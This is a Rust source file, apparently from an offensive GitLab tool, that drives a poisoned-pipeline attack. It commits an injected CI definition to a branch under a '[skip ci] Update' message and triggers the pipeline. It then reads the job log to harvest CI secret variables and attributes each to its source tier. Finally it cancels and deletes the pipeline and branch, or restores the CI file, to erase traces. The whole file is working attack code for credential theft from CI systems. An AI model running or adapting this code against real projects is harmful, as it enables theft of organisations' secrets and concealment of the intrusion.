//! One attack session: the state machine driver and its remote artifacts.

use std::future::Future;

use serde::Deserialize;
use serde_json::json;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;
use uuid::Uuid;

use super::payload::{self, HarvestStatus, JOB_NAME, SessionKey};
use super::{AttackReport, AttackRequest, AttackState, HarvestedRecord};
use crate::classify::{Refusal, Verdict};
use crate::context::ReconContext;
use crate::error::{CleanupWarning, ReconError};
use crate::hierarchy::{OrgNode, fetch_project, lineage};
use crate::runners::workflow::CI_FILE;
use crate::secrets::{EffectiveVariables, RevealPolicy, resolve_effective};
use crate::transport::{ApiRequest, encode_path};

#[derive(Debug, Deserialize)]
struct PipelineRecord {
    id: u64,
    #[serde(default)]
    status: Option<String>,
}

#[derive(Debug, Deserialize)]
struct JobRecord {
    id: u64,
    #[serde(default)]
    name: String,
    status: String,
}

#[derive(Debug, Deserialize)]
struct CommitRecord {
    id: String,
}

/// A refusal after which the remote side certainly did not act. A transport
/// failure leaves that open.
fn settled(refusal: &Refusal) -> bool {
    !matches!(refusal, Refusal::TransportFailure(_))
}

/// Race `fut` against cancellation.
async fn guarded<T>(
    cancel: &CancellationToken,
    fut: impl Future<Output = T>,
) -> Result<T, ReconError> {
    tokio::select! {
        biased;
        () = cancel.cancelled() => Err(ReconError::Cancelled),
        out = fut => Ok(out),
    }
}

/// Drives one attack from `Idle` to a terminal state.
///
/// Every path that leaves `Idle` for `Preparing` goes through exactly one
/// `CleaningUp`, which removes whatever the session created, or may have
/// created, before a terminal state is entered.
#[derive(Debug)]
pub struct AttackSession<'a> {
    ctx: &'a ReconContext,
    id: Uuid,
    nonce: String,
    /// Generated once the request is accepted.
    key: Option<SessionKey>,
    state: AttackState,
    trace: Vec<AttackState>,

    branch: Option<String>,
    branch_created: bool,
    /// CI file content on the branch before injection; `None` if absent.
    original_ci: Option<String>,
    ci_committed: bool,
    commit_sha: Option<String>,
    trigger_uncertain: bool,
    pipeline_id: Option<u64>,
    pipeline_finished: bool,
    job_id: Option<u64>,

    harvest: Option<HarvestStatus>,
    records: Vec<HarvestedRecord>,
    warnings: Vec<CleanupWarning>,
}

impl<'a> AttackSession<'a> {
    pub fn new(ctx: &'a ReconContext) -> Self {
        Self {
            ctx,
            id: Uuid::new_v4(),
            nonce: payload::session_nonce(),
            key: None,
            state: AttackState::Idle,
            trace: vec![AttackState::Idle],
            branch: None,
            branch_created: false,
            original_ci: None,
            ci_committed: false,
            commit_sha: None,
            trigger_uncertain: false,
            pipeline_id: None,
            pipeline_finished: false,
            job_id: None,
            harvest: None,
            records: Vec::new(),
            warnings: Vec::new(),
        }
    }

    pub fn id(&self) -> Uuid {
        self.id
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    fn enter(&mut self, next: AttackState) {
        debug_assert!(
            self.state.can_transition_to(next),
            "illegal attack transition {} -> {next}",
            self.state
        );
        tracing::info!(from = %self.state, to = %next, "attack state");
        self.state = next;
        self.trace.push(next);
    }

    #[tracing::instrument(
        skip_all,
        fields(session = %self.id, project = request.project.as_deref().unwrap_or("-"))
    )]
    pub async fn run(mut self, request: AttackRequest, cancel: &CancellationToken) -> AttackReport {
        let project = match self.validate(&request, cancel).await {
            Ok(project) => project,
            Err(error) => {
                tracing::error!(%error, "attack refused");
                self.enter(AttackState::Failed);
                return self.into_report(None, Err(error));
            }
        };

        self.enter(AttackState::Preparing);
        let outcome = self.execute(&project, request.branch, cancel).await;
        if let Err(error) = &outcome {
            tracing::error!(state = %self.state, %error, "attack aborted");
        }

        self.enter(AttackState::CleaningUp);
        self.cleanup(project.id.raw()).await;
        self.enter(if outcome.is_ok() {
            AttackState::Succeeded
        } else {
            AttackState::Failed
        });
        self.into_report(Some(&project), outcome)
    }

    fn into_report(self, project: Option<&OrgNode>, outcome: Result<(), ReconError>) -> AttackReport {
        AttackReport {
            session: self.id,
            project: project.map(|p| p.id),
            project_path: project.map(|p| p.full_path.clone()),
            branch: self.branch,
            branch_created: self.branch_created,
            pipeline_id: self.pipeline_id,
            job_id: self.job_id,
            harvest: self.harvest,
            records: self.records,
            outcome,
            cleanup_warnings: self.warnings,
            trace: self.trace,
        }
    }

    // -- Idle ---------------------------------------------------------------

    async fn validate(
        &mut self,
        request: &AttackRequest,
        cancel: &CancellationToken,
    ) -> Result<OrgNode, ReconError> {
        let target = request
            .project
            .as_deref()
            .map(str::trim)
            .filter(|p| !p.is_empty())
            .ok_or_else(|| ReconError::MissingParameter("project-path".into()))?;

        if !self.ctx.token.scope_class().can_write_api() {
            return Err(ReconError::InsufficientScope {
                target: target.to_owned(),
                reason: "api scope required".into(),
            });
        }
        if cancel.is_cancelled() {
            return Err(ReconError::Cancelled);
        }

        let project = guarded(cancel, fetch_project(self.ctx, target)).await??;
        if project.archived {
            return Err(ReconError::Configuration(format!(
                "{} is archived and read-only",
                project.full_path
            )));
        }
        self.key = Some(SessionKey::generate()?);
        Ok(project)
    }

    // -- Preparing .. Harvesting --------------------------------------------

    async fn execute(
        &mut self,
        project: &OrgNode,
        branch: Option<String>,
        cancel: &CancellationToken,
    ) -> Result<(), ReconError> {
        let pid = project.id.raw();

        let branch = self.prepare_branch(project, branch, cancel).await?;
        self.commit_payload(pid, &branch, cancel).await?;
        let pipeline = self.trigger(pid, &branch, cancel).await?;
        let deadline = Instant::now() + self.ctx.config.ppe_timeout;

        self.enter(AttackState::Triggered);
        let located = tokio::time::timeout_at(deadline, self.locate_job(pid, pipeline, cancel)).await;
        located.map_err(|_| self.timed_out(pipeline, "pending"))??;

        self.enter(AttackState::Polling);
        let job = self.poll(pid, pipeline, deadline, cancel).await?;

        self.enter(AttackState::Harvesting);
        self.harvest(project, job, cancel).await
    }

    async fn prepare_branch(
        &mut self,
        project: &OrgNode,
        requested: Option<String>,
        cancel: &CancellationToken,
    ) -> Result<String, ReconError> {
        let pid = project.id.raw();
        let requested = requested
            .map(|b| b.trim().to_owned())
            .filter(|b| !b.is_empty());

        let (name, exists) = match requested {
            Some(name) => {
                let path = format!("/projects/{pid}/repository/branches/{}", encode_path(&name));
                let lookup = self.ctx.client.send_with_retry(ApiRequest::get(path));
                let exists = match guarded(cancel, lookup).await? {
                    Ok(_) => true,
                    Err(Refusal::NotFound) => false,
                    Err(r) => return Err(ReconError::from_refusal(&format!("branch {name}"), r)),
                };
                (name, exists)
            }
            None => (payload::generated_branch_name(), false),
        };
        self.branch = Some(name.clone());

        if exists {
            tracing::info!(branch = %name, "reusing existing branch");
        } else {
            self.create_branch(project, &name, cancel).await?;
        }

        let path = format!(
            "/projects/{pid}/repository/files/{}/raw",
            encode_path(CI_FILE)
        );
        let req = ApiRequest::get(path).param("ref", &name);
        self.original_ci = match guarded(cancel, self.ctx.client.send_with_retry(req)).await? {
            Ok(granted) => Some(granted.body),
            Err(Refusal::NotFound) => None,
            Err(r) => return Err(ReconError::from_refusal(&format!("{CI_FILE} on {name}"), r)),
        };
        Ok(name)
    }

    async fn create_branch(
        &mut self,
        project: &OrgNode,
        name: &str,
        cancel: &CancellationToken,
    ) -> Result<(), ReconError> {
        let Some(base) = project.default_branch.as_deref() else {
            return Err(ReconError::Configuration(format!(
                "{} has no default branch to branch from",
                project.full_path
            )));
        };
        let req = ApiRequest::post(format!("/projects/{}/repository/branches", project.id.raw()))
            .param("branch", name)
            .param("ref", base);

        self.branch_created = true;
        match guarded(cancel, self.ctx.client.send(req)).await? {
            Ok(_) => {
                tracing::info!(branch = name, from = base, "branch created");
                Ok(())
            }
            Err(r) => {
                self.branch_created = !settled(&r);
                Err(ReconError::from_refusal(&format!("branch {name}"), r))
            }
        }
    }

    async fn commit_payload(
        &mut self,
        pid: u64,
        branch: &str,
        cancel: &CancellationToken,
    ) -> Result<(), ReconError> {
        let action = if self.original_ci.is_some() { "update" } else { "create" };
        let Some(key) = &self.key else {
            return Err(ReconError::Configuration("session key missing".into()));
        };
        let body = json!({
            "branch": branch,
            "commit_message": format!("[skip ci] Update {CI_FILE}"),
            "actions": [{
                "action": action,
                "file_path": CI_FILE,
                "content": payload::pipeline_definition(&self.nonce, key),
            }],
        });
        let req = ApiRequest::post(format!("/projects/{pid}/repository/commits")).json(body);

        self.ci_committed = true;
        match guarded(cancel, self.ctx.client.send(req)).await? {
            Ok(granted) => {
                self.commit_sha = granted.json::<CommitRecord>().ok().map(|c| c.id);
                tracing::info!(
                    branch,
                    sha = self.commit_sha.as_deref().unwrap_or("?"),
                    "pipeline definition committed"
                );
                Ok(())
            }
            Err(r) => {
                self.ci_committed = !settled(&r);
                Err(ReconError::from_refusal(&format!("commit on {branch}"), r))
            }
        }
    }

    async fn trigger(
        &mut self,
        pid: u64,
        branch: &str,
        cancel: &CancellationToken,
    ) -> Result<u64, ReconError> {
        let req = ApiRequest::post(format!("/projects/{pid}/pipeline")).param("ref", branch);

        self.trigger_uncertain = true;
        let verdict = guarded(cancel, self.ctx.client.send(req)).await?;
        match verdict.and_then(|g| g.json::<PipelineRecord>()) {
            Ok(pipeline) => {
                self.trigger_uncertain = false;
                self.pipeline_id = Some(pipeline.id);
                tracing::info!(pipeline = pipeline.id, branch, "pipeline triggered");
                Ok(pipeline.id)
            }
            Err(r) => {
                self.trigger_uncertain = !settled(&r);
                Err(ReconError::from_refusal(&format!("pipeline on {branch}"), r))
            }
        }
    }

    /// Look the harvest job up by name. It may not be listed yet.
    async fn locate_job(
        &mut self,
        pid: u64,
        pipeline: u64,
        cancel: &CancellationToken,
    ) -> Result<Option<JobRecord>, ReconError> {
        let req = ApiRequest::get(format!("/projects/{pid}/pipelines/{pipeline}/jobs"));
        let items = guarded(cancel, self.ctx.client.get_all_with_retry(req))
            .await?
            .map_err(|r| ReconError::from_refusal(&format!("pipeline {pipeline}"), r))?;

        let job = items
            .into_iter()
            .filter_map(|item| serde_json::from_value::<JobRecord>(item).ok())
            .find(|j| j.name == JOB_NAME);
        if let Some(job) = &job {
            self.job_id = Some(job.id);
        }
        Ok(job)
    }

    /// Current upstream status of the job, or of the pipeline while the job
    /// is not listed.
    async fn status(
        &mut self,
        pid: u64,
        pipeline: u64,
        cancel: &CancellationToken,
    ) -> Result<(Option<u64>, String), ReconError> {
        if let Some(job) = self.job_id {
            let req = ApiRequest::get(format!("/projects/{pid}/jobs/{job}"));
            let record: JobRecord = guarded(cancel, self.ctx.client.send_with_retry(req))
                .await?
                .and_then(|g| g.json())
                .map_err(|r| ReconError::from_refusal(&format!("job {job}"), r))?;
            return Ok((Some(job), record.status));
        }

        if let Some(job) = self.locate_job(pid, pipeline, cancel).await? {
            return Ok((Some(job.id), job.status));
        }

        let req = ApiRequest::get(format!("/projects/{pid}/pipelines/{pipeline}"));
        let record: PipelineRecord = guarded(cancel, self.ctx.client.send_with_retry(req))
            .await?
            .and_then(|g| g.json())
            .map_err(|r| ReconError::from_refusal(&format!("pipeline {pipeline}"), r))?;
        Ok((None, record.status.unwrap_or_else(|| "unknown".into())))
    }

    fn timed_out(&self, pipeline: u64, status: &str) -> ReconError {
        ReconError::Timeout(format!(
            "pipeline {pipeline} still {status} after {}s",
            self.ctx.config.ppe_timeout.as_secs()
        ))
    }

    /// Poll until the job finishes. Status calls count against `deadline`
    /// too; a request still in flight when it passes is abandoned.
    async fn poll(
        &mut self,
        pid: u64,
        pipeline: u64,
        deadline: Instant,
        cancel: &CancellationToken,
    ) -> Result<u64, ReconError> {
        let mut last = None;
        let watched =
            tokio::time::timeout_at(deadline, self.watch(pid, pipeline, &mut last, cancel)).await;
        match watched {
            Ok(outcome) => outcome,
            Err(_) => Err(self.timed_out(pipeline, last.as_deref().unwrap_or("pending"))),
        }
    }

    async fn watch(
        &mut self,
        pid: u64,
        pipeline: u64,
        last: &mut Option<String>,
        cancel: &CancellationToken,
    ) -> Result<u64, ReconError> {
        let interval = self.ctx.config.poll_interval;
        loop {
            let (job, status) = self.status(pid, pipeline, cancel).await?;
            tracing::debug!(pipeline, job = ?job, %status, "poll");

            match (job, status.as_str()) {
                (Some(job), "success") => {
                    self.pipeline_finished = true;
                    return Ok(job);
                }
                (None, "success") => {
                    self.pipeline_finished = true;
                    return Err(ReconError::HarvestFailed(format!(
                        "pipeline {pipeline} finished without a {JOB_NAME} job"
                    )));
                }
                (_, "failed" | "canceled" | "skipped") => {
                    self.pipeline_finished = true;
                    return Err(ReconError::PipelineFailed {
                        pipeline_id: pipeline,
                        status: status.clone(),
                    });
                }
                _ => {}
            }
            *last = Some(status);

            tokio::select! {
                biased;
                () = cancel.cancelled() => return Err(ReconError::Cancelled),
                () = tokio::time::sleep(interval) => {}
            }
        }
    }

    async fn harvest(
        &mut self,
        project: &OrgNode,
        job: u64,
        cancel: &CancellationToken,
    ) -> Result<(), ReconError> {
        let req = ApiRequest::get(format!("/projects/{}/jobs/{job}/trace", project.id.raw()));
        let trace = guarded(cancel, self.ctx.client.send_with_retry(req))
            .await?
            .map_err(|r| ReconError::from_refusal(&format!("job {job} log"), r))?
            .body;

        let Some(key) = &self.key else {
            return Err(ReconError::Configuration("session key missing".into()));
        };
        let harvest = payload::parse_trace(&trace, &self.nonce, key);
        self.harvest = Some(harvest.status);
        match harvest.status {
            HarvestStatus::MarkersMissing => {
                return Err(ReconError::HarvestFailed(format!(
                    "job {job} log carries no session markers"
                )));
            }
            HarvestStatus::Undecodable => {
                return Err(ReconError::HarvestFailed(format!(
                    "job {job} output between the markers does not decode"
                )));
            }
            HarvestStatus::Records | HarvestStatus::Empty => {}
        }

        let effective = self.attribution(project, cancel).await;
        self.records = harvest
            .pairs
            .into_iter()
            .map(|(key, value)| HarvestedRecord {
                source_tier: effective.as_ref().and_then(|e| e.source_tier(&key)),
                key,
                value,
            })
            .collect();
        tracing::info!(records = self.records.len(), "harvest parsed");
        Ok(())
    }

    /// Best effort: which tier defines each harvested key.
    async fn attribution(
        &self,
        project: &OrgNode,
        cancel: &CancellationToken,
    ) -> Option<EffectiveVariables> {
        let lookup = async {
            let index = lineage(self.ctx, project).await;
            resolve_effective(self.ctx, project, &index, RevealPolicy::Redact).await
        };
        match guarded(cancel, lookup).await {
            Ok(Ok(effective)) => Some(effective),
            Ok(Err(error)) => {
                tracing::debug!(%error, "source tiers unavailable");
                None
            }
            Err(_) => None,
        }
    }

    // -- CleaningUp ---------------------------------------------------------

    fn record(&mut self, step: &str, artifact: String, verdict: Verdict) {
        match verdict {
            Ok(_) | Err(Refusal::NotFound) => {
                tracing::debug!(step, %artifact, "cleanup step done");
            }
            Err(refusal) => {
                tracing::warn!(step, %artifact, error = %refusal, "cleanup step failed");
                self.warnings.push(CleanupWarning {
                    step: step.to_owned(),
                    artifact,
                    reason: refusal.to_string(),
                });
            }
        }
    }

    /// Pipeline started by a trigger whose answer never arrived.
    async fn stray_pipeline(&mut self, pid: u64) -> Option<u64> {
        let branch = self.branch.clone()?;
        if self.commit_sha.is_none() && !self.branch_created {
            self.warnings.push(CleanupWarning {
                step: "delete_pipeline".into(),
                artifact: format!("pipeline on {branch}"),
                reason: "trigger outcome unknown and the pipeline cannot be told apart".into(),
            });
            return None;
        }

        let mut req = ApiRequest::get(format!("/projects/{pid}/pipelines")).param("ref", &branch);
        if let Some(sha) = &self.commit_sha {
            req = req.param("sha", sha);
        }
        let found = self
            .ctx
            .client
            .send_with_retry(req)
            .await
            .and_then(|g| g.json::<Vec<PipelineRecord>>());
        match found {
            Ok(found) => found.first().map(|p| p.id),
            Err(refusal) => {
                self.record("delete_pipeline", format!("pipeline on {branch}"), Err(refusal));
                None
            }
        }
    }

    /// Runs once per session and is never cancelled.
    async fn cleanup(&mut self, pid: u64) {
        let pipeline = match self.pipeline_id {
            Some(id) => Some(id),
            None if self.trigger_uncertain => self.stray_pipeline(pid).await,
            None => None,
        };

        if let Some(id) = pipeline {
            let client = &self.ctx.client;
            if !self.pipeline_finished {
                let verdict = client
                    .send_with_retry(ApiRequest::post(format!("/projects/{pid}/pipelines/{id}/cancel")))
                    .await;
                self.record("cancel_pipeline", format!("pipeline {id}"), verdict);
            }
            let verdict = client
                .send_with_retry(ApiRequest::delete(format!("/projects/{pid}/pipelines/{id}")))
                .await;
            self.record("delete_pipeline", format!("pipeline {id}"), verdict);
        }

        let Some(branch) = self.branch.clone() else {
            return;
        };
        if self.branch_created {
            let verdict = self
                .ctx
                .client
                .send_with_retry(ApiRequest::delete(format!(
                    "/projects/{pid}/repository/branches/{}",
                    encode_path(&branch)
                )))
                .await;
            self.record("delete_branch", format!("branch {branch}"), verdict);
        } else if self.ci_committed {
            let action = match &self.original_ci {
                Some(content) => json!({"action": "update", "file_path": CI_FILE, "content": content}),
                None => json!({"action": "delete", "file_path": CI_FILE}),
            };
            let body = json!({
                "branch": branch,
                "commit_message": format!("[skip ci] Restore {CI_FILE}"),
                "actions": [action],
            });
            let verdict = self
                .ctx
                .client
                .send(ApiRequest::post(format!("/projects/{pid}/repository/commits")).json(body))
                .await;
            self.record("restore_ci_file", format!("{CI_FILE} on {branch}"), verdict);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    #[rstest]
    #[case(Refusal::NotFound, true)]
    #[case(Refusal::RateLimited(None), true)]
    #[case(Refusal::Denied(crate::classify::DenyCause::InsufficientRole), true)]
    #[case(Refusal::TransportFailure("reset".into()), false)]
    fn only_transport_failure_leaves_outcome_open(#[case] refusal: Refusal, #[case] want: bool) {
        assert_eq!(settled(&refusal), want);
    }

    #[tokio::test]
    async fn guarded_prefers_cancellation() {
        let cancel = CancellationToken::new();
        cancel.cancel();
        let out = guarded(&cancel, async { 1 }).await;
        assert!(matches!(out, Err(ReconError::Cancelled)));
    }

    #[tokio::test]
    async fn guarded_passes_result_through() {
        let cancel = CancellationToken::new();
        assert_eq!(guarded(&cancel, async { 7 }).await.unwrap(), 7);
    }
}
